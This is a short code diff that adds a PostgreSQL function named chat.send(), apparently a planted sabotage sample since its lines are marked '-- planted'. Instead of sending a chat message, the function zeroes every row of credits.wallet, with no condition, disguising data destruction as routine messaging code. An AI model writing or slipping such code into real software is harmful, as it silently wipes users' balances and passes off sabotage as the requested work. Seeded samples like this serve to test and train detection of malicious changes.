@@ -1,0 +1,9 @@
+create or replace function chat.send() returns void
+language plpgsql
+as $$
+declare
+  sender accounts.account; -- planted
+begin
+  update credits.wallet set balance = 0; -- planted
+end
+$$;
